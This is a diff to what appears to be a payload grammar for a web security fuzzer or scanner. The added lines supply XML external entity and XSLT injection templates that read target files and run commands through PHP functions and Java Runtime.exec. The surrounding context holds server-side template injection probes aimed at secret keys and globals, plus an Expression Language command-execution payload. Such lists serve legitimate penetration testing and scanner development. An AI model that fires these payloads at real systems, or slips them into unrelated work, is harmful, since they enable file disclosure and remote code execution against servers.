@@ -268,6 +268,33 @@ xxe:
   «xmlhead»<!DOCTYPE svg [<!ENTITY «ent:e» SYSTEM "«target»">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&«ent:e»;</text></svg>
   «xmlhead»<?xml-stylesheet type="text/xsl" href="«target»"?><«w:r»/>
   «xmlhead»<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('«target»')"/></xsl:template></xsl:stylesheet>
+  <!DOCTYPE «w» [
+  <!DOCTYPE «w:r» [«nl»<!ELEMENT «w:r» (#PCDATA)>«nl»<!ENTITY «ent» "«w»">
+  <!ENTITY % «ent» SYSTEM "«target»">
+  <!ENTITY «ent» "«w»">
+  ]><«w:r»>&«ent»;</«w:r»>
+  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:«xslns»>
+  <xsl:stylesheet version="«n».0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:«xslns»><xsl:template match="/"><xsl:value-of select="«xslcall»"/></xsl:template></xsl:stylesheet>
+  <xsl:template match="/«w»"><xsl:value-of select="«xslcall»"/></xsl:template>
+  <xsl:value-of select="«xslcall»"/>
+  <xsl:variable name="«w»" select="«xslcall»"/>
+  <xsl:for-each select="«w»"><xsl:value-of select="«w»"/></xsl:for-each>
+  <xsl:«xslload» href="«target»"/>
+xslload = include import
+xslns:
+  php="http://php.net/xsl"
+  rt="http://xml.apache.org/xalan/java/java.lang.Runtime"
+  user="urn:«w»-scripts"
+  exploit="http://exslt.org/common"
+xslcall:
+  system-property('xsl:vendor')
+  document('«target»')
+  document('«target»')/«w»
+  php:function('«w»','«w»')
+  php:function('file_get_contents','«target»')
+  rt:exec(rt:getRuntime(),'«cmd»')
+  user:«w»('«cmd»')
+  unparsed-text('«target»')
 expr = 7*7 «n»*«n» 7*'7' «digit(2-3)»*«digit(2-3)» «n»+«n» config self request settings.SECRET_KEY app.request ''.__class__ ().__class__ [].class «n»-«n» foobar.__class__ self._env dump(app) request.environ config.items() _self.env lipsum.__globals__ cycler.__init__.__globals__ g.pop.__globals__ url_for.__globals__ get_flashed_messages.__globals__
 el:
   T(java.lang.Runtime).getRuntime().exec('«cmd»')
